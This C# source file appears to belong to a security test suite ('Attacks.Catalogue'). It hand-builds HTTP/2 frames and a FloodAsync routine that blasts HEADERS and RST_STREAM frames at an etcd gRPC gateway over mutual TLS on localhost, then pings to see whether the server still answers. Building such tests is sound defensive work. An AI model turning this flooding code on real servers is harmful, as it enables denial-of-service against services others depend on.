using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Cloister.Attacks.Grounds;

namespace Cloister.Attacks.Catalogue;

/// <summary>Speaks HTTP/2 byte by byte, as no library would.</summary>
internal static class GatewayPeer
{
    internal const byte Headers = 1;
    internal const byte Reset = 3;
    internal const byte GoAway = 7;

    private const byte Ping = 6;

    /// <summary>Preface and empty SETTINGS.</summary>
    internal static byte[] Beginning { get; } = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0, 0, 4, 0, 0, 0, 0, 0];

    /// <summary>TLS with the API server's certificate.</summary>
    internal static SslStream Authenticate(Cluster cluster, Socket socket)
    {
        SslStream stream = new(new NetworkStream(socket, ownsSocket: true));
        try
        {
            stream.AuthenticateAsClient(new SslClientAuthenticationOptions
            {
                TargetHost = "127.0.0.1",
                CertificateChainPolicy = cluster.GatewayTrust,
                ApplicationProtocols = [SslApplicationProtocol.Http2],
                ClientCertificateContext = SslStreamCertificateContext.Create(
                    X509Certificate2.CreateFromPemFile(cluster.Tls.ClientCertificate, cluster.Tls.ClientKey), null, offline: true),
            });
            return stream;
        }
        catch
        {
            stream.Dispose();
            throw;
        }
    }

    internal static Socket Connect(string address)
    {
        Socket socket = new(SocketType.Stream, ProtocolType.Tcp) { ReceiveTimeout = 20_000, SendTimeout = 20_000, NoDelay = true };
        socket.Connect(IPEndPoint.Parse(address));
        return socket;
    }

    internal static byte[] Frame(byte type, byte flags, int streamId, ReadOnlySpan<byte> payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)(payload.Length & 0xFF);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), streamId);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    /// <summary>Headers of a gRPC call, all literal.</summary>
    internal static byte[] Call(string path)
    {
        List<byte> block = [];
        foreach ((string name, string value) in (IEnumerable<(string, string)>)
        [
            (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "etcd"), ("content-type", "application/grpc"), ("te", "trailers"),
        ])
        {
            block.AddRange([0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)]);
        }

        return [.. block];
    }

    /// <summary>Sends, reads what comes meanwhile, and asks at the end whether the peer is still there.</summary>
    /// <returns>The code of GOAWAY; null when a PING behind it all was answered; -1 when the connection just ended.</returns>
    internal static async Task<int?> FloodAsync(Stream stream, IEnumerable<byte[]> frames, CancellationToken stop)
    {
        Task<int?> reading = Task.Run(() => Read(stream), stop);
        try
        {
            stream.Write(Beginning);
            foreach (byte[][] some in frames.Chunk(100))
            {
                stream.Write([.. some.SelectMany(frame => frame)]);
            }

            stream.Write(Frame(Ping, 0, 0, "the last"u8));
        }
        catch (IOException)
        {
            // Closed in the middle: GOAWAY says why.
        }

        return await reading;
    }

    private static int? Read(Stream stream)
    {
        byte[] header = new byte[9];
        try
        {
            while (true)
            {
                stream.ReadExactly(header);
                byte[] payload = new byte[(header[0] << 16) | (header[1] << 8) | header[2]];
                stream.ReadExactly(payload);
                if (header[3] == GoAway)
                {
                    return BinaryPrimitives.ReadInt32BigEndian(payload.AsSpan(4));
                }

                if (header[3] == Ping && payload.AsSpan().SequenceEqual("the last"u8))
                {
                    return null;
                }
            }
        }
        catch (IOException)
        {
            return -1;
        }
    }
}
